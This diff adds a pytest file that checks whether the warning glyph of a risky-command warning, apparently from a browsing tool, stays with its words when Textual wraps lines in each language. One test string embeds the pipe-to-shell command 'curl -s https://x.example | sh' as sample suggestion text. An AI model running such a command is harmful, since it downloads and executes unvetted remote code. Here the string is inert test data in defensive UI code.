@@ -1,0 +1,44 @@
+"""The ⚠ of a risky-command warning stays with its words when the line wraps. In Chinese the
+words after "⚠ " are one run with no space: Textual's wrap (the app's toasts, step card, side
+panel) moved the whole run to the next row and left ⚠ alone on its own. Every language's
+warning, at every width a toast or a step card has, wrapped as Textual wraps it."""
+
+from __future__ import annotations
+
+import re
+
+import pytest
+from rich.cells import cell_len
+from textual._wrap import compute_wrap_offsets
+
+from cobrowse.i18n.catalogues import translator
+from cobrowse.i18n.language import Language
+from cobrowse.policy.risky_command import RISK_TEXT
+
+GLYPH = "⚠"
+
+
+def rows(text: str, width: int) -> list[str]:
+    offsets = [0, *compute_wrap_offsets(text, width, 4), len(text)]
+    return [text[a:b] for a, b in zip(offsets, offsets[1:])]
+
+
+@pytest.mark.parametrize("language", list(Language))
+@pytest.mark.parametrize("width", range(12, 81))
+def test_the_warning_glyph_is_never_alone_on_a_row(language: Language, width: int) -> None:
+    tr = translator(language, isolate=False)
+    for risk, msgid in RISK_TEXT.items():
+        for text in (tr(msgid), tr("{warning} · {suggestion}", warning=tr(msgid), suggestion="curl -s https://x.example | sh")):
+            for row in rows(text, width):
+                assert row.strip() != GLYPH and not row.rstrip().endswith(f" {GLYPH}"), (risk, width, rows(text, width))
+
+
+@pytest.mark.parametrize("language", list(Language))
+def test_no_catalogue_puts_a_space_between_the_glyph_and_a_wide_character(language: Language) -> None:
+    """Any language written without spaces (zh, a ja or ko later): "⚠ 这…" breaks after ⚠;
+    the glyph is written against its first character, as the language writes its symbols."""
+    catalogue = translator(language).catalogue
+    texts = getattr(catalogue, "_catalog", {}).values()
+    bad = [t for t in texts if isinstance(t, str) and re.search(rf"{GLYPH}\s+(\S)", t)
+           and any(cell_len(m[1]) == 2 for m in re.finditer(rf"{GLYPH}\s+(\S)", t))]
+    assert bad == []
